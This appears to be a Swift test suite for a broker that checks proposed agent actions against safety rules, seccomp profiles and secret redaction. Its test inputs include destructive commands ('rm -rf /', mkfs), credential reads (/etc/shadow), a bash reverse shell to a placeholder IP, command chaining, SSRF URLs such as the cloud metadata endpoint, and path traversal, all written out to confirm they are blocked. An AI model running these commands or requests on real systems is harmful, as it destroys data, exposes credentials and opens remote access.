import JGBrokerCore
import JGIPC
import JGPolicy
import JGPolicyYAML
import Testing

@Suite struct BrokerRulesTests {
    @Test func interpreterAllowlistAndChaining() throws {
        let p = try PolicyLoader.load(text: "global_safety_ceiling: 90\nagent_nodes:\n  - id: a\n    privilege_tier: 1\n    allowed_executables: [echo]\n", sourceName: "p")
        let a = p.agent("a")
        #expect(HardRules.interpreterViolation(ProposedAction(kind: "shell_command", command: "echo hi"), agent: a) == nil)
        #expect(HardRules.interpreterViolation(ProposedAction(kind: "shell_command", command: "/bin/echo hi"), agent: a) == nil)
        #expect(HardRules.interpreterViolation(ProposedAction(kind: "shell_command", command: "python3 -c 1"), agent: a) != nil)
        #expect(HardRules.interpreterViolation(ProposedAction(kind: "shell_command", command: "echo hi; rm x"), agent: a) != nil)
        #expect(HardRules.interpreterViolation(ProposedAction(kind: "shell_command", command: "echo $(id)"), agent: a) != nil)
    }

    @Test(arguments: ["rm -rf /", "cat /etc/shadow", "mkfs.ext4 /dev/sda", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"])
    func destructiveCommands(_ c: String) {
        #expect(HardRules.violation(ProposedAction(kind: "shell_command", command: c)) != nil)
    }

    @Test(arguments: ["http://example.com", "https://127.0.0.1/", "https://169.254.169.254/latest", "https://[::1]/", "https://[::ffff:10.0.0.1]/",
                      "https://10.1.2.3/", "https://localhost/", "file:///etc/passwd", "https://user@example.com/"])
    func unsafeURLs(_ u: String) {
        #expect(URLRules.violation(u) != nil, "\(u)")
    }

    @Test func safeURL() { #expect(URLRules.violation("https://example.com/a?b=1") == nil) }

    @Test func protectedPathsAndTraversal() {
        #expect(HardRules.violation(ProposedAction(kind: "file_write", path: "/etc/shadow", contents: "x")) != nil)
        #expect(HardRules.violation(ProposedAction(kind: "file_write", path: "a/../../x", contents: "x")) != nil)
        #expect(HardRules.violation(ProposedAction(kind: "file_write", path: "notes.txt", contents: "x")) == nil)
    }

    @Test func redaction() {
        let r = Redactor.redact("password=hunter2 ok AKIAABCDEFGHIJKLMNOP Authorization: Bearer abc.def")
        #expect(!r.contains("hunter2"))
        #expect(!r.contains("AKIAABCDEFGHIJKLMNOP"))
        #expect(!r.contains("abc.def"))
        #expect(r.contains("ok"))
    }
}

import JGSandbox

@Suite struct SeccompProfileTests {
    func words(_ file: String) throws -> [String] {
        let root = #filePath.components(separatedBy: "/Tests/")[0]
        let text = try #require(try? String(contentsOfFile: root + "/seccomp/" + file, encoding: .utf8))
        return text.split(separator: "\n").filter { !$0.hasPrefix("#") }.flatMap { $0.split(separator: " ").map(String.init) }
    }

    @Test func compiledProfilesMatchTheReviewedFiles() throws {
        #expect(SeccompProfiles.gate == (try words("jg-gate.deny")))
        #expect(SeccompProfiles.prover == (try words("jg-prover.deny")))
        #expect(SeccompProfiles.tool == (try words("tool.deny")))
        #expect(SeccompProfiles.locked == (try words("locked.deny")))
    }
}

@Suite struct RedactorTests {
    @Test func patternSet() {
        let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----"
        let r = Redactor.redact("a\n\(pem)\nb TOKEN: \"xyz\" api_key=k1,next keep")
        #expect(!r.contains("MIIEow") && !r.contains("xyz") && !r.contains("k1"), "\(r)")
        #expect(r.contains("keep") && r.contains("next") && r.hasPrefix("a\n"))
    }

    @Test func wordsThatMerelyContainAKeyAreKept() {
        #expect(Redactor.redact("tokenizer: fast") == "tokenizer: fast")
        #expect(Redactor.redact("mytoken=1") == "mytoken=1")
    }
}
